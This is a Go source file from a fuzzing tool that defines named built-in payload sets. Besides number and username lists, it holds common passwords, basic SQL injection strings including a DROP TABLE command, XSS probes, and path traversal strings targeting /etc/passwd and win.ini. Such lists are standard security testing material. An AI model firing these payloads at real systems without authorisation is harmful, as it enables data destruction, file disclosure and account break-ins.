// Package payloads exposes the fuzzer's named built-in payload sets,
// ready-made wordlists an attack can reference by name instead of
// supplying its own payload set.
package payloads

import (
	"sort"
	"strconv"
)

// Set is one named, described payload list.
type Set struct {
	Name        string
	Description string
	Payloads    []string
}

func numbersOneToHundred() []string {
	out := make([]string, 100)
	for i := range out {
		out[i] = strconv.Itoa(i + 1)
	}
	return out
}

var builtin = map[string]Set{
	"numbers_1_100": {
		Name:        "Numbers 1-100",
		Description: "Sequential numbers from 1 to 100",
		Payloads:    numbersOneToHundred(),
	},
	"common_passwords": {
		Name:        "Common Passwords",
		Description: "Top 20 common passwords",
		Payloads: []string{
			"123456", "password", "12345678", "qwerty", "123456789",
			"12345", "1234", "111111", "1234567", "dragon",
			"123123", "baseball", "iloveyou", "trustno1", "sunshine",
			"princess", "welcome", "shadow", "superman", "michael",
		},
	},
	"common_usernames": {
		Name:        "Common Usernames",
		Description: "Common usernames for testing",
		Payloads: []string{
			"admin", "administrator", "root", "user", "test",
			"guest", "info", "adm", "mysql", "oracle",
			"ftp", "pi", "puppet", "ansible", "vagrant",
		},
	},
	"sqli_basic": {
		Name:        "SQLi Basic",
		Description: "Basic SQL injection payloads",
		Payloads: []string{
			`'`, `"`, `' OR '1'='1`, `" OR "1"="1`, `' OR 1=1--`,
			`" OR 1=1--`, `1' OR '1'='1`, `1" OR "1"="1`,
			`' UNION SELECT NULL--`, `' AND 1=1--`, `' AND 1=2--`,
			`1; DROP TABLE users--`, `admin'--`, `') OR ('1'='1`,
		},
	},
	"xss_basic": {
		Name:        "XSS Basic",
		Description: "Basic XSS payloads",
		Payloads: []string{
			`<script>alert(1)</script>`,
			`<img src=x onerror=alert(1)>`,
			`<svg onload=alert(1)>`,
			`javascript:alert(1)`,
			`<body onload=alert(1)>`,
			`<iframe src="javascript:alert(1)">`,
			`'"><script>alert(1)</script>`,
			`<input onfocus=alert(1) autofocus>`,
			`<marquee onstart=alert(1)>`,
			`<video src=x onerror=alert(1)>`,
		},
	},
	"path_traversal": {
		Name:        "Path Traversal",
		Description: "Directory traversal payloads",
		Payloads: []string{
			"../", `..\`, "../../../etc/passwd",
			`..\..\..\windows\win.ini`,
			"....//....//....//etc/passwd",
			"%2e%2e%2f", "%2e%2e/", "..%2f",
			"%2e%2e%5c", "..%5c", "..%255c",
			"/etc/passwd", `C:\Windows\win.ini`,
		},
	},
}

// Builtin returns the named payload set and whether it exists.
func Builtin(name string) (Set, bool) {
	s, ok := builtin[name]
	return s, ok
}

// List returns every built-in set name in a stable order.
func List() []string {
	names := make([]string, 0, len(builtin))
	for name := range builtin {
		names = append(names, name)
	}
	sort.Strings(names)
	return names
}
